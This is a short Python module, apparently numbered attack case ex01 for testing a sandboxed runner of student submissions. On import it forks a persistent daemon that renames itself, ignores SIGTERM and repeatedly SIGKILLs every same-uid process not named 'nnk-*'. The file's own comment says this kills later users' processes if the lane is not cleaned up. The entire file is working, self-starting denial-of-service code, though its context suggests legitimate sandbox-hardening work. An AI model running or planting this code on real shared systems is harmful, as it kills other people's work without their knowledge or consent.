
# Attack, at import (ex01): leave behind one daemon that SIGKILLs every process of this sandbox
# uid that is not one of ours (ours are named "nnk-*"). If it outlives this submission, e.g.
# because the runner died and nobody swept the lane, the next student's child is killed at birth.
import ctypes as _ctypes
import os as _os
import signal as _signal
import time as _time

_libc = _ctypes.CDLL(None)
_libc.prctl(15, b"nnk-friend", 0, 0, 0)  # PR_SET_NAME


def _lane_processes():
    found = []
    try:
        pids = _os.listdir("/proc")
    except OSError:
        pids = []  # /proc is out of reach: nobody to find
    for pid in pids:
        if not pid.isdigit() or int(pid) == _os.getpid():
            continue
        try:
            if _os.stat(f"/proc/{pid}").st_uid != _os.getuid():
                continue
            with open(f"/proc/{pid}/comm") as handle:
                found.append((int(pid), handle.read().strip()))
        except OSError:
            pass
    return found


if not any(name == "nnk-daemon" for _, name in _lane_processes()):
    if _os.fork() == 0:
        try:
            _os.setsid()
        except OSError:
            pass  # denied: a daemon all the same
        if _os.fork() == 0:
            _libc.prctl(15, b"nnk-daemon", 0, 0, 0)
            _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
            while True:
                for _pid, _name in _lane_processes():
                    if not _name.startswith("nnk-"):
                        try:
                            _os.kill(_pid, _signal.SIGKILL)
                        except OSError:
                            pass
                _time.sleep(0.01)
        _os._exit(0)
